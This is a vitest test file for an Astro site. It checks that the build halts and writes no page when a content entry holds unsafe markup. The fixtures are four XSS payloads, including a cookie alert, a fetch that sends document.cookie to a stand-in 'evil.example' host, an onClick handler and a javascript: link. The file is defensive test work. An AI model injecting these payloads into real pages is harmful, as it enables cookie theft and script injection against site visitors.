// BUILD GATE TEST — runs the real `astro build` on a copy of the project with one unsafe entry
// added, and asserts the build stops before writing any page, naming path:line:col of each
// payload. This is the guarantee that matters: whatever `npm run check` would reject can never be
// published, even by a build started without running the check first. Takes a few seconds.
import { cpSync, existsSync, mkdtempSync, readdirSync, readFileSync, realpathSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { spawnSync, type SpawnSyncReturns } from 'node:child_process';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';

const ROOT = process.cwd();
const project = mkdtempSync(path.join(tmpdir(), 'anliku-unsafe-build-'));
afterAll(() => rmSync(project, { recursive: true, force: true }));

for (const name of ['src', 'public', 'content', 'astro.config.mjs', 'package.json', 'tsconfig.json']) {
  cpSync(path.join(ROOT, name), path.join(project, name), { recursive: true });
}
symlinkSync(realpathSync(path.join(ROOT, 'node_modules')), path.join(project, 'node_modules'), 'dir');

// A valid entry of the corpus under a new slug and number, with payloads appended to its body.
const casesDir = path.join(project, 'content', 'cases');
const model = readdirSync(casesDir).filter((name) => name.endsWith('.mdx')).sort()[0]!;
const valid = readFileSync(path.join(casesDir, model), 'utf8').replace(/^number: \d+$/m, 'number: 9999').replace(/^aliases:.*$/m, '');
const PAYLOADS = [
  { text: '<script>alert(document.cookie)</script>', rule: 'safety/script' },
  { text: '{globalThis.fetch("https://evil.example/?c=" + document.cookie)}', rule: 'safety/expression' },
  { text: '<Aside title="说明" onClick="alert(1)">点击</Aside>', rule: 'safety/event-handler', column: 19 },
  { text: '[点击这里](javascript:alert(1))', rule: 'safety/url' },
];
const lines = `${valid.trimEnd()}\n`.split('\n');
const expected = PAYLOADS.map((payload) => {
  lines.push('', payload.text);
  return `content/cases/zz-unsafe-payload.mdx:${lines.length}:${payload.column ?? 1} [${payload.rule}]`;
});
writeFileSync(path.join(casesDir, 'zz-unsafe-payload.mdx'), `${lines.join('\n')}\n`);

describe('astro build with an unsafe entry', () => {
  let result: SpawnSyncReturns<string>;
  let output = '';
  beforeAll(() => {
    result = spawnSync(process.execPath, [path.join(project, 'node_modules', 'astro', 'bin', 'astro.mjs'), 'build'], {
      cwd: project,
      encoding: 'utf8',
      env: { ...process.env, FORCE_COLOR: '0', NO_COLOR: '1' },
      timeout: 60_000,
    });
    output = `${result.stdout}\n${result.stderr}`;
  }, 65_000);

  it('exits non-zero, stopped by the content gate', () => {
    expect(result.error).toBeUndefined();
    expect(result.status, output).not.toBe(0);
    expect(output).toContain('内容检查发现');
  });

  it('names path:line:col and the rule of every payload', () => {
    for (const line of expected) expect(output).toContain(line);
  });

  it('writes no page at all', () => {
    expect(existsSync(path.join(project, 'dist', 'cases', 'zz-unsafe-payload'))).toBe(false);
    expect(existsSync(path.join(project, 'dist', 'index.html'))).toBe(false);
  });
});
